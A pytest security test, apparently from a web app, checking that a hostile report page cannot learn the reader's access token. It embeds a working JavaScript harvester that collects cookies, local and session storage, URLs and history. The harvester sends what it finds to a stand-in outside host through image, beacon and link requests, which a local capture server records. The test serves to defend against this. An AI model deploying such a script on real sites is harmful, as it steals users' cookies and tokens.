"""A report from somebody else learns nothing by which it could read the study or act in its reader's name."""

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import unquote

import pytest
from tests.view.page.conftest import TOKEN, collect, serving

pytestmark = pytest.mark.long

WAYS = """
const learnt = {};
const ways = {
  location: () => location.href,
  document: () => [document.URL, document.baseURI, document.documentURI],
  referrer: () => document.referrer,
  opener: () => opener.location.href,
  parent: () => [parent.location.href, top.location.href],
  history: () => [JSON.stringify(history.state), ...navigation.entries().map((one) => one.url)],
  ancestors: () => [...location.ancestorOrigins],
  name: () => window.name,
  cookie: () => document.cookie,
  local: () => JSON.stringify(localStorage),
  session: () => JSON.stringify(sessionStorage),
  performance: () => performance.getEntries().map((one) => one.name),
  stack: () => new Error().stack,
  links: () => [...document.querySelectorAll("a, base")].map((one) => one.href),
  channel: () => new BroadcastChannel("quaver").name,
  request: () => {
    const asked = new XMLHttpRequest();
    asked.open("GET", "/", false);
    asked.send();
    return asked.responseText;
  },
  frame: () => {
    const made = document.createElement("iframe");
    made.src = "/";
    document.body.append(made);
    return made.contentDocument.URL;
  },
  window: () => window.open("/").location.href,
};
for (const [name, way] of Object.entries(ways)) {
  try { learnt[name] = way(); } catch (error) { learnt[name] = "refused: " + error.name; }
}
const more = [
  async () => (await fetch("/")).text(),
  async () => (await fetch("../")).text(),
  async () => (await navigator.serviceWorker.getRegistrations()).map((one) => one.scope),
  async () => caches.keys(),
].map((way) => way().catch((error) => "refused: " + error.name));
Promise.all(more).then((found) => {
  learnt.fetched = found;
  new Image().src = "OUT/image?" + encodeURIComponent(JSON.stringify(learnt));
  navigator.sendBeacon?.("OUT/beacon", JSON.stringify(learnt));
  const link = document.createElement("a");
  link.referrerPolicy = "unsafe-url";
  link.href = "OUT/away?" + encodeURIComponent(JSON.stringify(learnt));
  document.body.append(link);
  link.click();
});
"""


class Outside(BaseHTTPRequestHandler):
    """Another server, which keeps all that it is sent."""

    kept: list[str] = []  # noqa: RUF012

    def do_GET(self):
        """Keep a request."""
        size = int(self.headers.get("content-length") or 0)
        self.kept.append(unquote(self.path) + str(self.headers) + self.rfile.read(size).decode())
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"<title>outside</title>")

    def do_POST(self):
        """Keep a request."""
        self.do_GET()

    def log_message(self, *about):
        """Say nothing."""


@pytest.fixture
def outside():
    server = HTTPServer(("127.0.0.1", 0), Outside)
    Outside.kept.clear()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("how", ["new tab", "same tab"])
def test_a_hostile_report_learns_no_token(browser, tmp_path, outside, how):
    path = collect(tmp_path)
    script = WAYS.replace("OUT", outside)
    report = f'<!doctype html><title>report</title><body><a href="#x">x</a><script>{script}</script>'
    (path.parent / "report.html").write_text(report, encoding="utf-8")
    with serving(path) as address:
        page = browser.new_context().new_page()
        page.goto(address)
        link = page.get_by_role("link", name="Open the report")
        link.wait_for()
        if how == "new tab":
            with page.expect_popup() as opened:
                link.click()
            page = opened.value
        else:
            page.goto(link.evaluate("one => one.href"))
        page.wait_for_url(f"{outside}/away**", timeout=20_000)
        page.context.close()
    assert any("/away?" in one for one in Outside.kept)  # its script ran and could go away
    said = "\n".join(Outside.kept)
    assert '"location":"http://127.0.0.1' in said
    assert TOKEN not in said
